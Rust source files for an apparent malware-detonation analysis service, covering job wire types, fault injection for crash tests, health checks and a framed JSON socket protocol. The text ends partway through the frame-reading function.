    pub fn ping(&mut self) -> Result<(), FrameError> {
        match self.request(&Request::Ping)? {
            Response::Pong => Ok(()),
            other => Err(FrameError::Malformed(format!("expected pong, got {other:?}"))),
        }
    }

    /// Fetches the live telemetry snapshot (merged report metrics, cost
    /// channel, service gauges).
    ///
    /// # Errors
    ///
    /// Protocol errors, or [`FrameError::Malformed`] on an unexpected
    /// response shape.
    pub fn metrics(&mut self) -> Result<MetricsSnapshot, FrameError> {
        match self.request(&Request::Metrics)? {
            Response::Metrics(snapshot) => Ok(snapshot),
            other => Err(FrameError::Malformed(format!("expected metrics, got {other:?}"))),
        }
    }

    /// Fetches the health verdict.
    ///
    /// # Errors
    ///
    /// Protocol errors, or [`FrameError::Malformed`] on an unexpected
    /// response shape.
    pub fn health(&mut self) -> Result<HealthReport, FrameError> {
        match self.request(&Request::Health)? {
            Response::Health(report) => Ok(report),
            other => Err(FrameError::Malformed(format!("expected health, got {other:?}"))),
        }
    }

    /// Fetches the newest `tail` service flight-recorder events plus the
    /// ring's total drop count.
    ///
    /// # Errors
    ///
    /// Protocol errors, or [`FrameError::Malformed`] on an unexpected
    /// response shape.
    pub fn trace(&mut self, tail: u64) -> Result<(Vec<TraceEvent>, u64), FrameError> {
        match self.request(&Request::Trace { tail })? {
            Response::Trace { events, dropped } => Ok((events, dropped)),
            other => Err(FrameError::Malformed(format!("expected trace, got {other:?}"))),
        }
    }
}
