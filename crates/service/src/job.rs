//! Job types: what gets submitted, what state it moves through, and what
//! comes back.
//!
//! A job is one detonation: either a corpus scenario (recorded live by the
//! worker, then analyzed) or a raw [`faros_replay::Recording`] shipped as
//! bytes (analyzed against the scenario it names). Every type here is a
//! wire type — it round-trips through `faros_support::json` and appears in
//! protocol frames.

use faros_obs::metrics::MetricsSnapshot;
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};
use std::fmt;

/// What a submitted job asks the service to detonate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobSpec {
    /// Record the named corpus scenario live, then analyze the capture.
    Scenario {
        /// Corpus sample name (see `faros-cli list`).
        name: String,
    },
    /// Analyze a previously captured recording (its `scenario` field names
    /// the corpus sample to rebuild the machine from).
    Recording {
        /// The recording, as its JSON serialization.
        json: String,
    },
}

impl JobSpec {
    /// A short human label for status lines.
    pub fn label(&self) -> String {
        match self {
            JobSpec::Scenario { name } => name.clone(),
            JobSpec::Recording { json } => {
                // Best effort: surface the scenario name without a full parse.
                JsonValue::parse(json)
                    .ok()
                    .and_then(|v| v.get("scenario").and_then(|s| s.as_str().map(String::from)))
                    .map_or_else(|| "<recording>".to_string(), |n| format!("{n} (recording)"))
            }
        }
    }
}

impl ToJson for JobSpec {
    fn to_json_value(&self) -> JsonValue {
        match self {
            JobSpec::Scenario { name } => JsonValue::object(vec![
                ("kind", "scenario".to_json_value()),
                ("name", name.to_json_value()),
            ]),
            JobSpec::Recording { json } => JsonValue::object(vec![
                ("kind", "recording".to_json_value()),
                ("json", json.to_json_value()),
            ]),
        }
    }
}

impl FromJson for JobSpec {
    fn from_json_value(v: &JsonValue) -> Result<JobSpec, JsonError> {
        let kind: String = json::field(v, "kind")?;
        match kind.as_str() {
            "scenario" => Ok(JobSpec::Scenario { name: json::field(v, "name")? }),
            "recording" => Ok(JobSpec::Recording { json: json::field(v, "json")? }),
            other => Err(JsonError::decode(format!("unknown job spec kind `{other}`"))),
        }
    }
}

/// Why a job failed — the structured error the analyst gets instead of a
/// hung or silently dropped job.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FailureKind {
    /// The spec could not be resolved (unknown scenario, unparseable
    /// recording).
    InvalidSpec,
    /// The replay diverged or the scenario failed to build.
    Replay,
    /// The worker panicked while executing the job; it was replaced.
    WorkerPanic,
    /// The job exceeded the per-job deadline; its worker was replaced.
    DeadlineExceeded,
    /// The worker returned a report that failed validation.
    CorruptReport,
    /// The service shut down before the job ran.
    Cancelled,
}

impl FailureKind {
    /// The wire name of the failure kind.
    pub fn as_str(self) -> &'static str {
        match self {
            FailureKind::InvalidSpec => "invalid-spec",
            FailureKind::Replay => "replay",
            FailureKind::WorkerPanic => "worker-panic",
            FailureKind::DeadlineExceeded => "deadline-exceeded",
            FailureKind::CorruptReport => "corrupt-report",
            FailureKind::Cancelled => "cancelled",
        }
    }

    fn parse(s: &str) -> Result<FailureKind, JsonError> {
        Ok(match s {
            "invalid-spec" => FailureKind::InvalidSpec,
            "replay" => FailureKind::Replay,
            "worker-panic" => FailureKind::WorkerPanic,
            "deadline-exceeded" => FailureKind::DeadlineExceeded,
            "corrupt-report" => FailureKind::CorruptReport,
            "cancelled" => FailureKind::Cancelled,
            other => return Err(JsonError::decode(format!("unknown failure kind `{other}`"))),
        })
    }
}

impl fmt::Display for FailureKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A structured job failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobFailure {
    /// The failure class.
    pub kind: FailureKind,
    /// Human-readable detail (panic payload, divergence description, ...).
    pub detail: String,
}

impl JobFailure {
    /// Builds a failure.
    pub fn new(kind: FailureKind, detail: impl Into<String>) -> JobFailure {
        JobFailure { kind, detail: detail.into() }
    }
}

impl fmt::Display for JobFailure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.kind, self.detail)
    }
}

impl ToJson for JobFailure {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("kind", self.kind.as_str().to_json_value()),
            ("detail", self.detail.to_json_value()),
        ])
    }
}

impl FromJson for JobFailure {
    fn from_json_value(v: &JsonValue) -> Result<JobFailure, JsonError> {
        let kind: String = json::field(v, "kind")?;
        Ok(JobFailure { kind: FailureKind::parse(&kind)?, detail: json::field(v, "detail")? })
    }
}

/// What a successfully analyzed job returns.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct JobResult {
    /// The full `FarosReport` as its byte-stable JSON serialization —
    /// identical to what `faros-cli analyze <sample> --json` prints.
    pub report_json: String,
    /// The report's metrics section (again, for server-side merging
    /// without re-parsing the report).
    pub metrics: MetricsSnapshot,
    /// Instructions the replay retired.
    pub instructions: u64,
    /// Whether the report flagged an in-memory injection.
    pub flagged: bool,
    /// Per-job flight-recorder events captured.
    pub trace_events: u64,
    /// Per-job flight-recorder events evicted (0 unless the ring was
    /// undersized).
    pub trace_dropped: u64,
    /// The job's cost channel: queue-wait/replay/analyze/report phase
    /// latency histograms plus per-plugin dispatch counts, as a metrics
    /// snapshot. Wall-clock, human-facing only — deliberately kept out of
    /// [`JobResult::metrics`] so merged report metrics stay deterministic.
    pub cost: MetricsSnapshot,
}

impl ToJson for JobResult {
    fn to_json_value(&self) -> JsonValue {
        let mut fields = vec![
            ("report_json", self.report_json.to_json_value()),
            ("metrics", self.metrics.to_json_value()),
            ("instructions", self.instructions.to_json_value()),
            ("flagged", self.flagged.to_json_value()),
            ("trace_events", self.trace_events.to_json_value()),
            ("trace_dropped", self.trace_dropped.to_json_value()),
        ];
        if !self.cost.is_empty() {
            fields.push(("cost", self.cost.to_json_value()));
        }
        JsonValue::object(fields)
    }
}

impl FromJson for JobResult {
    fn from_json_value(v: &JsonValue) -> Result<JobResult, JsonError> {
        Ok(JobResult {
            report_json: json::field(v, "report_json")?,
            metrics: json::field(v, "metrics")?,
            instructions: json::field(v, "instructions")?,
            flagged: json::field(v, "flagged")?,
            trace_events: json::field(v, "trace_events")?,
            trace_dropped: json::field(v, "trace_dropped")?,
            cost: json::field_or_default(v, "cost")?,
        })
    }
}

/// Lifecycle state of a job.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobStatus {
    /// Admitted, waiting for a worker.
    Queued,
    /// A worker is executing it.
    Running,
    /// Finished successfully; the result is available.
    Done(JobResult),
    /// Finished unsuccessfully; the failure is structured.
    Failed(JobFailure),
}

impl JobStatus {
    /// The wire name of the state.
    pub fn as_str(&self) -> &'static str {
        match self {
            JobStatus::Queued => "queued",
            JobStatus::Running => "running",
            JobStatus::Done(_) => "done",
            JobStatus::Failed(_) => "failed",
        }
    }

    /// Returns `true` once the job can no longer change state.
    pub fn is_terminal(&self) -> bool {
        matches!(self, JobStatus::Done(_) | JobStatus::Failed(_))
    }
}

impl ToJson for JobStatus {
    fn to_json_value(&self) -> JsonValue {
        let mut fields = vec![("state", self.as_str().to_json_value())];
        match self {
            JobStatus::Done(result) => fields.push(("result", result.to_json_value())),
            JobStatus::Failed(failure) => fields.push(("failure", failure.to_json_value())),
            JobStatus::Queued | JobStatus::Running => {}
        }
        JsonValue::object(fields)
    }
}

impl FromJson for JobStatus {
    fn from_json_value(v: &JsonValue) -> Result<JobStatus, JsonError> {
        let state: String = json::field(v, "state")?;
        match state.as_str() {
            "queued" => Ok(JobStatus::Queued),
            "running" => Ok(JobStatus::Running),
            "done" => Ok(JobStatus::Done(json::field(v, "result")?)),
            "failed" => Ok(JobStatus::Failed(json::field(v, "failure")?)),
            other => Err(JsonError::decode(format!("unknown job state `{other}`"))),
        }
    }
}

/// One job's full record, as reported over the wire.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobView {
    /// The job id (submission order, starting at 0).
    pub id: u64,
    /// Short label (scenario name).
    pub label: String,
    /// Current state.
    pub status: JobStatus,
}

impl ToJson for JobView {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("id", self.id.to_json_value()),
            ("label", self.label.to_json_value()),
            ("status", self.status.to_json_value()),
        ])
    }
}

impl FromJson for JobView {
    fn from_json_value(v: &JsonValue) -> Result<JobView, JsonError> {
        Ok(JobView {
            id: json::field(v, "id")?,
            label: json::field(v, "label")?,
            status: json::field(v, "status")?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn round_trip<T: ToJson + FromJson + PartialEq + fmt::Debug>(v: &T) {
        let json = v.to_json_value().to_pretty();
        let back = T::from_json_value(&JsonValue::parse(&json).unwrap()).unwrap();
        assert_eq!(&back, v);
        assert_eq!(back.to_json_value().to_pretty(), json, "byte-stable");
    }

    #[test]
    fn specs_round_trip() {
        round_trip(&JobSpec::Scenario { name: "process_hollowing".into() });
        round_trip(&JobSpec::Recording { json: r#"{"scenario":"x"}"#.into() });
    }

    #[test]
    fn statuses_round_trip() {
        round_trip(&JobStatus::Queued);
        round_trip(&JobStatus::Running);
        round_trip(&JobStatus::Failed(JobFailure::new(
            FailureKind::DeadlineExceeded,
            "exceeded 50ms",
        )));
        round_trip(&JobStatus::Done(JobResult {
            report_json: "{}".into(),
            instructions: 42,
            flagged: true,
            trace_events: 7,
            ..JobResult::default()
        }));
    }

    #[test]
    fn recording_spec_labels_with_scenario_name() {
        let spec = JobSpec::Recording { json: r#"{"scenario":"darkcomet_rat"}"#.into() };
        assert_eq!(spec.label(), "darkcomet_rat (recording)");
        assert_eq!(JobSpec::Recording { json: "garbage".into() }.label(), "<recording>");
    }

    #[test]
    fn unknown_wire_values_are_rejected() {
        let bad = JsonValue::parse(r#"{"kind":"warp","detail":"x"}"#).unwrap();
        assert!(JobFailure::from_json_value(&bad).is_err());
        let bad = JsonValue::parse(r#"{"state":"limbo"}"#).unwrap();
        assert!(JobStatus::from_json_value(&bad).is_err());
    }
}
