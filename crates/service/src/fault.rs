//! Fault injection — the service's crash-test dummies.
//!
//! A [`FaultPlan`] maps job ids to [`Fault`]s; workers consult it right
//! before executing a job. Faults are injected *authentically*: a
//! [`Fault::PanicMidReplay`] registers a real plugin
//! ([`PanicAt`]) that panics from inside the replay's instruction hook —
//! the same unwind path a genuine analysis bug would take — rather than
//! short-circuiting before any work happens. The fault-injection test
//! suite uses this to prove the pool's containment story: a poisoned job
//! becomes a structured failure, its worker is replaced, and the queue
//! keeps draining.
//!
//! All fault panics carry [`FAULT_PREFIX`] in their payload so the test
//! suite's panic hook (see [`quiet_fault_panics`]) can suppress the noise
//! of *expected* panics while letting real ones print.

use faros_emu::cpu::{CpuHooks, InsnCtx};
use faros_kernel::event::KernelEvents;
use faros_replay::Plugin;
use std::collections::HashMap;
use std::panic;
use std::sync::{Mutex, Once};
use std::time::Duration;

/// Marker carried by every injected panic payload.
pub const FAULT_PREFIX: &str = "faros-service fault:";

/// A fault to inject into one job.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fault {
    /// Panic from inside the replay's instruction hook after this many
    /// instructions — exercises `catch_unwind` + worker replacement.
    PanicMidReplay(u64),
    /// Truncate the report JSON before publishing — exercises server-side
    /// report validation (`FailureKind::CorruptReport`).
    CorruptReport,
    /// Sleep this long mid-job — exercises the deadline supervisor
    /// (`FailureKind::DeadlineExceeded`, stalled worker replaced).
    Stall(Duration),
}

/// Job-id-keyed fault schedule, shared between the test and the pool.
#[derive(Debug, Default)]
pub struct FaultPlan {
    faults: Mutex<HashMap<u64, Fault>>,
}

impl FaultPlan {
    /// An empty plan (no faults).
    pub fn new() -> FaultPlan {
        FaultPlan::default()
    }

    /// Schedules `fault` for job `id`.
    pub fn set(&self, id: u64, fault: Fault) {
        self.faults.lock().expect("fault plan poisoned").insert(id, fault);
    }

    /// The fault scheduled for job `id`, if any.
    pub fn get(&self, id: u64) -> Option<Fault> {
        self.faults.lock().expect("fault plan poisoned").get(&id).copied()
    }

    /// Number of scheduled faults.
    pub fn len(&self) -> usize {
        self.faults.lock().expect("fault plan poisoned").len()
    }

    /// Returns `true` when no faults are scheduled.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// A plugin that panics after `after` instruction dispatches — the
/// authentic mid-replay crash.
#[derive(Debug)]
pub struct PanicAt {
    after: u64,
    seen: u64,
}

impl PanicAt {
    /// Panics once `after` instructions have been dispatched.
    pub fn new(after: u64) -> PanicAt {
        PanicAt { after, seen: 0 }
    }
}

impl CpuHooks for PanicAt {
    fn on_insn(&mut self, _ctx: &InsnCtx) {
        self.seen += 1;
        if self.seen >= self.after {
            panic!("{FAULT_PREFIX} injected panic at insn {}", self.seen);
        }
    }
}
impl KernelEvents for PanicAt {}
impl Plugin for PanicAt {
    fn name(&self) -> &str {
        "panic-at"
    }
}

/// Returns `true` when a panic payload is an injected fault (its message
/// starts with [`FAULT_PREFIX`]).
pub fn is_fault_payload(payload: &(dyn std::any::Any + Send)) -> bool {
    payload_message(payload).contains(FAULT_PREFIX)
}

/// Extracts the human-readable message from a panic payload.
pub fn payload_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "<non-string panic payload>".to_string()
    }
}

/// Installs (once, process-wide) a panic hook that silences *injected*
/// fault panics — identified by [`FAULT_PREFIX`] — and defers to the
/// previous hook for everything else. Fault-injection tests call this so
/// expected panics don't spray backtraces over the test output while real
/// bugs still print.
pub fn quiet_fault_panics() {
    static INSTALL: Once = Once::new();
    INSTALL.call_once(|| {
        let previous = panic::take_hook();
        panic::set_hook(Box::new(move |info| {
            let injected = info
                .payload()
                .downcast_ref::<String>()
                .map(|s| s.contains(FAULT_PREFIX))
                .or_else(|| {
                    info.payload().downcast_ref::<&str>().map(|s| s.contains(FAULT_PREFIX))
                })
                .unwrap_or(false);
            if !injected {
                previous(info);
            }
        }));
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plan_stores_and_returns_faults() {
        let plan = FaultPlan::new();
        assert!(plan.is_empty());
        plan.set(3, Fault::CorruptReport);
        plan.set(7, Fault::Stall(Duration::from_millis(50)));
        assert_eq!(plan.get(3), Some(Fault::CorruptReport));
        assert_eq!(plan.get(7), Some(Fault::Stall(Duration::from_millis(50))));
        assert_eq!(plan.get(4), None);
        assert_eq!(plan.len(), 2);
    }

    fn dummy_ctx() -> InsnCtx {
        use faros_emu::isa::Reg;
        InsnCtx {
            vaddr: 0x1000,
            code_phys: [0; faros_emu::encode::MAX_INSTR_LEN],
            len: 2,
            instr: faros_emu::isa::Instr::MovRR { dst: Reg::Eax, src: Reg::Ebx },
            asid: faros_emu::mmu::Asid(1),
            retired: 0,
        }
    }

    #[test]
    fn panic_at_panics_with_fault_prefix() {
        quiet_fault_panics();
        let result = panic::catch_unwind(|| {
            let mut p = PanicAt::new(2);
            let ctx = dummy_ctx();
            p.on_insn(&ctx);
            p.on_insn(&ctx);
        });
        let payload = result.expect_err("must panic on the second insn");
        assert!(is_fault_payload(payload.as_ref()));
        assert!(payload_message(payload.as_ref()).contains("injected panic at insn 2"));
    }
}
