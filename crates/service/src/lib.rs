//! # faros-service — the detonation service
//!
//! The deployment story of the FAROS reproduction: instead of one CLI
//! invocation per sample, a long-running service ingests detonation jobs
//! (corpus scenario names or raw recordings), fans them out to a pool of
//! replay+analyze workers, and serves back per-job [`FarosReport`]s plus
//! merged fleet metrics — the shape a malware-triage pipeline actually
//! runs FAROS in.
//!
//! [`FarosReport`]: faros::FarosReport
//!
//! The layers, bottom up:
//!
//! * [`queue`] — a bounded MPMC queue; its capacity is the backpressure
//!   boundary (full queue → structured `queue-full` rejection) and its
//!   close-then-drain semantics are the shutdown contract;
//! * [`job`] — the wire types: job specs, statuses, structured failures,
//!   results;
//! * [`fault`] — fault injection (panic mid-replay, corrupt report,
//!   stall), used by the crash-test suite to prove containment;
//! * [`service`] — the [`Detonator`]: worker pool, claim-token result
//!   publishing, deadline supervisor, worker replacement, graceful
//!   shutdown, merged stats;
//! * [`health`] — SLO rules turning a stats snapshot into a structured
//!   [`HealthReport`] (queue saturation, trace drops, worker
//!   replacements, deadline kills);
//! * [`protocol`] — length-prefixed JSON frames and the request/response
//!   enums spoken over the socket, including the live telemetry verbs
//!   (`metrics` / `health` / `trace`);
//! * [`server`] — the Unix-socket server ([`serve`]) and blocking
//!   [`Client`].
//!
//! Every job is analyzed by `faros::analyze_recording` — the same
//! pipeline the CLI calls — so a report produced by a 16-worker service is
//! byte-identical to the one a sequential `faros-cli analyze` run prints.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod fault;
pub mod health;
pub mod job;
pub mod protocol;
pub mod queue;
pub mod server;
pub mod service;

pub use fault::{Fault, FaultPlan};
pub use health::{HealthCheck, HealthReport, HealthStatus};
pub use job::{FailureKind, JobFailure, JobResult, JobSpec, JobStatus, JobView};
pub use protocol::{read_frame, write_frame, FrameError, Request, Response};
pub use queue::{BoundedQueue, PushError};
pub use server::{serve, Client, ServerHandle};
pub use service::{Detonator, ServiceConfig, ServiceStats, SubmitError};
