//! Health evaluation: turning a [`ServiceStats`] snapshot into a
//! structured verdict.
//!
//! `faros-cli top` (and any fleet supervisor speaking the socket
//! protocol) asks the service "are you healthy?" via
//! [`crate::Request::Health`]; the answer is a [`HealthReport`] — one
//! [`HealthCheck`] per SLO rule plus the worst-of verdict — rather than a
//! bare boolean, so an operator sees *which* objective degraded. The
//! rules are pure functions of the stats snapshot:
//!
//! * **queue** — a full queue fails (submissions are being refused); a
//!   high-water mark at >= 90% of capacity warns (backpressure is close);
//! * **trace** — any dropped flight-recorder event warns (the trace ring
//!   was undersized; evidence of what the service did is incomplete);
//! * **workers** — any replaced worker warns (a job panicked or was
//!   retired mid-flight); losing half the pool or more fails;
//! * **deadlines** — any deadline kill warns (jobs are stalling past the
//!   per-job budget).

use crate::service::ServiceStats;
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};
use std::fmt;

/// Severity of one check (and of the overall verdict: the worst check).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Default)]
pub enum HealthStatus {
    /// The objective is met.
    #[default]
    Ok,
    /// Degraded but operating; worth an operator's look.
    Warn,
    /// An objective is violated; the service is refusing or losing work.
    Fail,
}

impl HealthStatus {
    /// The wire name of the status.
    pub fn as_str(self) -> &'static str {
        match self {
            HealthStatus::Ok => "ok",
            HealthStatus::Warn => "warn",
            HealthStatus::Fail => "fail",
        }
    }

    fn parse(s: &str) -> Result<HealthStatus, JsonError> {
        Ok(match s {
            "ok" => HealthStatus::Ok,
            "warn" => HealthStatus::Warn,
            "fail" => HealthStatus::Fail,
            other => return Err(JsonError::decode(format!("unknown health status `{other}`"))),
        })
    }
}

impl fmt::Display for HealthStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One SLO rule's outcome.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HealthCheck {
    /// The rule's stable name (`queue`, `trace`, `workers`, `deadlines`).
    pub name: String,
    /// How the rule scored.
    pub status: HealthStatus,
    /// Human-readable evidence for the score.
    pub detail: String,
}

impl HealthCheck {
    fn new(name: &str, status: HealthStatus, detail: String) -> HealthCheck {
        HealthCheck { name: name.to_string(), status, detail }
    }
}

impl ToJson for HealthCheck {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("name", self.name.to_json_value()),
            ("status", self.status.as_str().to_json_value()),
            ("detail", self.detail.to_json_value()),
        ])
    }
}

impl FromJson for HealthCheck {
    fn from_json_value(v: &JsonValue) -> Result<HealthCheck, JsonError> {
        let status: String = json::field(v, "status")?;
        Ok(HealthCheck {
            name: json::field(v, "name")?,
            status: HealthStatus::parse(&status)?,
            detail: json::field(v, "detail")?,
        })
    }
}

/// The structured health verdict: per-rule checks plus the worst-of
/// summary.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct HealthReport {
    /// The worst status any check reported.
    pub verdict: HealthStatus,
    /// Every rule's outcome, in evaluation order.
    pub checks: Vec<HealthCheck>,
}

impl HealthReport {
    /// Renders the report as a human-readable table (the `faros-cli top`
    /// health panel).
    pub fn to_table(&self) -> String {
        let mut s = format!("health: {}\n", self.verdict);
        for check in &self.checks {
            s.push_str(&format!("  [{:<4}] {:<9} {}\n", check.status, check.name, check.detail));
        }
        s
    }
}

impl ToJson for HealthReport {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("verdict", self.verdict.as_str().to_json_value()),
            ("checks", self.checks.to_json_value()),
        ])
    }
}

impl FromJson for HealthReport {
    fn from_json_value(v: &JsonValue) -> Result<HealthReport, JsonError> {
        let verdict: String = json::field(v, "verdict")?;
        Ok(HealthReport {
            verdict: HealthStatus::parse(&verdict)?,
            checks: json::field(v, "checks")?,
        })
    }
}

/// Evaluates the SLO rules against a stats snapshot. Pure — repeated
/// evaluation of the same snapshot yields the same report.
pub fn evaluate(stats: &ServiceStats, queue_capacity: u64) -> HealthReport {
    let mut checks = Vec::new();

    let queue = if queue_capacity > 0 && stats.queue_depth >= queue_capacity {
        HealthCheck::new(
            "queue",
            HealthStatus::Fail,
            format!(
                "queue is full ({}/{queue_capacity}); submissions are being refused",
                stats.queue_depth
            ),
        )
    } else if queue_capacity > 0 && stats.queue_high_water * 10 >= queue_capacity * 9 {
        HealthCheck::new(
            "queue",
            HealthStatus::Warn,
            format!(
                "queue high water {} is >= 90% of capacity {queue_capacity}",
                stats.queue_high_water
            ),
        )
    } else {
        HealthCheck::new(
            "queue",
            HealthStatus::Ok,
            format!(
                "depth {} / capacity {queue_capacity} (high water {})",
                stats.queue_depth, stats.queue_high_water
            ),
        )
    };
    checks.push(queue);

    let trace = if stats.trace_dropped > 0 {
        HealthCheck::new(
            "trace",
            HealthStatus::Warn,
            format!(
                "{} flight-recorder event(s) dropped — trace rings undersized",
                stats.trace_dropped
            ),
        )
    } else {
        HealthCheck::new(
            "trace",
            HealthStatus::Ok,
            format!("{} event(s) captured, none dropped", stats.trace_events),
        )
    };
    checks.push(trace);

    let workers = if stats.workers_replaced * 2 >= stats.workers_spawned.max(1) {
        HealthCheck::new(
            "workers",
            HealthStatus::Fail,
            format!(
                "{} of {} worker(s) ever spawned were replacements",
                stats.workers_replaced, stats.workers_spawned
            ),
        )
    } else if stats.workers_replaced > 0 {
        HealthCheck::new(
            "workers",
            HealthStatus::Warn,
            format!(
                "{} worker(s) replaced after a panic or deadline retirement",
                stats.workers_replaced
            ),
        )
    } else {
        HealthCheck::new(
            "workers",
            HealthStatus::Ok,
            format!("{} live, none replaced", stats.live_workers),
        )
    };
    checks.push(workers);

    let deadlines = if stats.deadline_kills > 0 {
        HealthCheck::new(
            "deadlines",
            HealthStatus::Warn,
            format!("{} job(s) killed past the per-job deadline", stats.deadline_kills),
        )
    } else {
        HealthCheck::new("deadlines", HealthStatus::Ok, "no deadline kills".to_string())
    };
    checks.push(deadlines);

    let verdict =
        checks.iter().map(|c| c.status).max().unwrap_or(HealthStatus::Ok);
    HealthReport { verdict, checks }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn healthy_stats() -> ServiceStats {
        ServiceStats {
            submitted: 10,
            completed: 10,
            live_workers: 4,
            workers_spawned: 4,
            trace_events: 100,
            ..ServiceStats::default()
        }
    }

    #[test]
    fn healthy_stats_verdict_ok() {
        let report = evaluate(&healthy_stats(), 64);
        assert_eq!(report.verdict, HealthStatus::Ok);
        assert_eq!(report.checks.len(), 4);
        assert!(report.checks.iter().all(|c| c.status == HealthStatus::Ok));
    }

    #[test]
    fn each_slo_rule_degrades_the_verdict() {
        let mut stats = healthy_stats();
        stats.queue_high_water = 58; // 58*10 >= 64*9
        assert_eq!(evaluate(&stats, 64).verdict, HealthStatus::Warn);

        let mut stats = healthy_stats();
        stats.queue_depth = 64;
        assert_eq!(evaluate(&stats, 64).verdict, HealthStatus::Fail);

        let mut stats = healthy_stats();
        stats.trace_dropped = 3;
        let report = evaluate(&stats, 64);
        assert_eq!(report.verdict, HealthStatus::Warn);
        assert!(report.checks.iter().any(|c| c.name == "trace" && c.detail.contains('3')));

        let mut stats = healthy_stats();
        stats.workers_replaced = 1;
        stats.workers_spawned = 5;
        assert_eq!(evaluate(&stats, 64).verdict, HealthStatus::Warn);

        let mut stats = healthy_stats();
        stats.workers_replaced = 2;
        assert_eq!(evaluate(&stats, 64).verdict, HealthStatus::Fail, "half the pool replaced");

        let mut stats = healthy_stats();
        stats.deadline_kills = 1;
        assert_eq!(evaluate(&stats, 64).verdict, HealthStatus::Warn);
    }

    #[test]
    fn report_round_trips_and_renders() {
        let mut stats = healthy_stats();
        stats.deadline_kills = 2;
        stats.trace_dropped = 1;
        let report = evaluate(&stats, 64);
        let json = report.to_json_value().to_pretty();
        let back = HealthReport::from_json_value(&JsonValue::parse(&json).unwrap()).unwrap();
        assert_eq!(back, report);
        assert_eq!(back.to_json_value().to_pretty(), json, "byte-stable");
        let table = report.to_table();
        assert!(table.starts_with("health: warn"));
        assert!(table.contains("deadlines"));
    }

    #[test]
    fn unknown_status_is_rejected() {
        let bad = JsonValue::parse(r#"{"verdict":"meh","checks":[]}"#).unwrap();
        assert!(HealthReport::from_json_value(&bad).is_err());
    }
}
