//! The wire protocol: length-prefixed JSON frames and the request/response
//! vocabulary spoken over the service socket.
//!
//! Framing is a little-endian `u32` byte length followed by that many
//! bytes of UTF-8 JSON. The length prefix is capped at [`MAX_FRAME`]: an
//! oversized prefix is refused *before* any allocation, so a hostile or
//! corrupt client cannot balloon the server. Truncated frames, garbage
//! payloads, and unknown request types all decode into structured errors —
//! the malformed-input test suite pins that none of them can panic the
//! server or leak a worker.

use crate::health::HealthReport;
use crate::job::{JobSpec, JobView};
use crate::service::ServiceStats;
use faros_obs::metrics::MetricsSnapshot;
use faros_obs::trace::TraceEvent;
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};
use std::fmt;
use std::io::{self, Read, Write};

/// Largest frame either side will read or write (16 MiB — comfortably
/// above any report, far below an allocation bomb).
pub const MAX_FRAME: u32 = 16 * 1024 * 1024;

/// Why a frame could not be read or written.
#[derive(Debug)]
pub enum FrameError {
    /// The underlying stream failed.
    Io(io::Error),
    /// The stream ended mid-frame (inside the prefix or the payload).
    Truncated {
        /// Bytes expected (payload length, or 4 for the prefix).
        expected: usize,
        /// Bytes actually read before EOF.
        got: usize,
    },
    /// The length prefix exceeds [`MAX_FRAME`].
    TooLarge(u32),
    /// The payload is not UTF-8 or not the JSON shape expected.
    Malformed(String),
}

impl fmt::Display for FrameError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FrameError::Io(e) => write!(f, "i/o error: {e}"),
            FrameError::Truncated { expected, got } => {
                write!(f, "truncated frame: expected {expected} bytes, got {got}")
            }
            FrameError::TooLarge(len) => {
                write!(f, "frame length {len} exceeds the {MAX_FRAME}-byte cap")
            }
            FrameError::Malformed(detail) => write!(f, "malformed frame: {detail}"),
        }
    }
}

impl From<io::Error> for FrameError {
    fn from(e: io::Error) -> FrameError {
        FrameError::Io(e)
    }
}

impl From<JsonError> for FrameError {
    fn from(e: JsonError) -> FrameError {
        FrameError::Malformed(e.to_string())
    }
}

/// Writes one frame.
///
/// # Errors
///
/// [`FrameError::TooLarge`] when the payload exceeds [`MAX_FRAME`];
/// otherwise I/O errors from the stream.
pub fn write_frame(w: &mut impl Write, payload: &str) -> Result<(), FrameError> {
    let len = u32::try_from(payload.len()).map_err(|_| FrameError::TooLarge(u32::MAX))?;
    if len > MAX_FRAME {
        return Err(FrameError::TooLarge(len));
    }
    w.write_all(&len.to_le_bytes())?;
    w.write_all(payload.as_bytes())?;
    w.flush()?;
    Ok(())
}

/// Reads one frame. Returns `Ok(None)` on a clean EOF at a frame boundary
/// (the peer hung up between frames); EOF *inside* a frame is
/// [`FrameError::Truncated`].
///
/// # Errors
///
/// See [`FrameError`]. An oversized length prefix is refused before any
/// payload allocation.
pub fn read_frame(r: &mut impl Read) -> Result<Option<String>, FrameError> {
    let mut prefix = [0u8; 4];
    let mut filled = 0;
    while filled < 4 {
        match r.read(&mut prefix[filled..]) {
            Ok(0) if filled == 0 => return Ok(None),
            Ok(0) => return Err(FrameError::Truncated { expected: 4, got: filled }),
